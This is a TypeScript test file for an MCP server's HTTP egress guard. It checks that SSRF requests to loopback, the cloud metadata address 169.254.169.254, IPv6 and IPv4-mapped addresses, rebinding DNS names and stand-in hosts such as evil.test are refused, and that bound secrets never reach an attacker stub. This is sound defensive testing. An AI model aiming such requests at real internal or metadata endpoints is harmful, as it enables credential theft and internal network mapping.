// SSRF: a hostile agent aims requests at internal addresses, by URL or by a name whose DNS answer
// points inside. Real server over MCP (the built CLI's `serve`); every case asserts the refusal and
// that the attacker's stub (no secret bound to it) got no request and no TCP connection.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { request } from 'undici';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createGuardedAgent } from '../../src/egress/connector.js';
import { REPO, tempHome, type TempHome } from '../helpers/cli.js';
import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
import { startStub, type Stub } from '../helpers/stub.js';
import { expectNoTrace, expectOutcome } from '../helpers/traces.js';
import { expectNoValueAtRest, expectUntouched, setSecret, startAttacker } from '../helpers/adversarial.js';

const KEY = 'sk-live+Adv/ers=ar"ial\'&<key>-9f8e7d6c5b4a';
const WILD = 'wild-card-Value-Aa1Bb2Cc3Dd4Ee5';
const VALUES = [KEY, WILD];

let t: TempHome;
let api: Stub; // the API KEY is bound to
let attacker: Stub; // nothing is bound to it; IPv4 and IPv6 loopback both reach it
let plain: StdioSession;
let pinned: StdioSession; // the same server with DNS answers pinned (--resolve)

const call = (s: StdioSession, args: Record<string, unknown>) => s.call('http_request', args);
const bearer = { Authorization: 'Bearer <secrets.KEY>' };
const attackerSawNothing = () => expectUntouched(attacker);

beforeAll(async () => {
  api = await startStub();
  attacker = await startAttacker();
  t = tempHome();
  await setSecret(t, 'KEY', KEY, '--host', api.origin, '--placement', 'header', '--placement', 'query', '--placement', 'body');
  // A wildcard binding is not an exact-origin opt-in: names under it must still pass the address guard.
  await setSecret(t, 'WILD', WILD, '--host', `http://*.evil.test:${attacker.port}`);
  plain = await connectStdio(t.env);
  pinned = await connectStdio(t.env, [
    '--resolve', 'evil.test=127.0.0.1',
    '--resolve', 'a.evil.test=127.0.0.1',
    '--resolve', 'metadata.test=169.254.169.254',
    '--resolve', 'mixed.test=93.184.216.34,127.0.0.1',
    '--resolve', 'v6.test=::1',
    '--resolve', 'mapped.test=::ffff:127.0.0.1',
  ]);
});

beforeEach(() => {
  api.reset();
  attacker.reset();
});

afterAll(async () => {
  await plain?.close();
  await pinned?.close();
  await api?.close();
  await attacker?.close();
  expectNoValueAtRest(t, [plain, pinned], VALUES);
  t.cleanup();
});

describe('SSRF: every URL of test/fixtures/ssrf-urls.txt is refused with no connection opened', () => {
  const lines = readFileSync(join(REPO, 'test/fixtures/ssrf-urls.txt'), 'utf8')
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l && !l.startsWith('#'));

  it('has the attack list', () => {
    expect(lines.length).toBeGreaterThanOrEqual(40);
  });

  for (const line of lines) {
    it(`refuses ${line}`, async () => {
      // Aim every address at the attacker's port, so a connection that got through would be counted.
      let target = line;
      try {
        const u = new URL(line);
        if (u.protocol === 'http:' || u.protocol === 'https:') {
          u.protocol = 'http:';
          u.port = String(attacker.port);
          target = u.toString();
        }
      } catch {
        // unparseable: sent as is
      }
      // Without a secret only the address guard (or the scheme/URL check) stands in the way.
      const free = await call(plain, { method: 'GET', url: target });
      expect(free.isError, `${target} was not refused`).toBe(true);
      const freeCode = /ADDRESS_NOT_ALLOWED|SCHEME_NOT_ALLOWED|BAD_INPUT/.exec(visible(free))?.[0];
      expect(freeCode, visible(free)).toBeDefined();
      // With one, host binding refuses first (a bad scheme or URL still fails its own check first);
      // either way nothing may connect.
      const withSecret = await call(plain, { method: 'GET', url: target, headers: bearer });
      expectOutcome(withSecret, { error: freeCode === 'ADDRESS_NOT_ALLOWED' ? 'HOST_NOT_ALLOWED' : freeCode! });
      expectNoTrace(visible(withSecret), VALUES);
      attackerSawNothing();
    });
  }
});

describe('DNS answers are checked on the address actually connected to', () => {
  it.each([
    ['a name resolving to 127.0.0.1', 'evil.test'],
    ['a name resolving to the metadata address 169.254.169.254', 'metadata.test'],
    ['a name answering a public address first and a private one next', 'mixed.test'],
    ['a name resolving to ::1', 'v6.test'],
    ['a name resolving to IPv4-mapped ::ffff:127.0.0.1', 'mapped.test'],
  ])('refuses %s', async (_label, host) => {
    const r = await call(pinned, { method: 'GET', url: `http://${host}:${attacker.port}/echo` });
    expect(r.isError).toBe(true);
    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
    // The kind of address, never the address a name resolved to (red team 13: a map of internal names).
    if (!/^[\d[]/.test(host)) expect(visible(r)).not.toMatch(/169\.254\.169\.254|127\.0\.0\.1|::1\b|::ffff/);
    attackerSawNothing();
  });

  it('refuses a secret bound by wildcard when the name resolves to a private address', async () => {
    const r = await call(pinned, { method: 'GET', url: `http://a.evil.test:${attacker.port}/echo`, headers: { 'X-Key': '<secrets.WILD>' } });
    expectOutcome(r, { error: 'ADDRESS_NOT_ALLOWED' });
    expectNoTrace(visible(r), VALUES);
    attackerSawNothing();
  });

  it('DNS rebinding: a name that answered a public address, then a private one, is refused at connect time', async () => {
    let lookups = 0;
    const agent = await createGuardedAgent({
      resolver: async () => (lookups++ === 0 ? [{ address: '203.0.113.7', family: 4 }] : [{ address: '127.0.0.1', family: 4 }]),
    });
    try {
      const first = await request(`http://rebind.test:${attacker.port}/`, { dispatcher: agent }).catch((e: Error) => e);
      const second = await request(`http://rebind.test:${attacker.port}/`, { dispatcher: agent }).catch((e: Error) => e);
      expect(first).toBeInstanceOf(Error); // 203.0.113.0/24 is documentation space: refused too
      expect(second).toBeInstanceOf(Error);
      expect(lookups).toBe(2);
      attackerSawNothing();
    } finally {
      await agent.close();
    }
  });

  it('a DNS failure carries no value', async () => {
    const r = await call(pinned, { method: 'GET', url: `http://no-such-host.invalid:${attacker.port}/?x=1`, headers: { 'X-Key': 'plain' } });
    expectOutcome(r, { error: 'UPSTREAM_ERROR' });
    expectNoTrace(visible(r), VALUES);
    attackerSawNothing();
  });
});
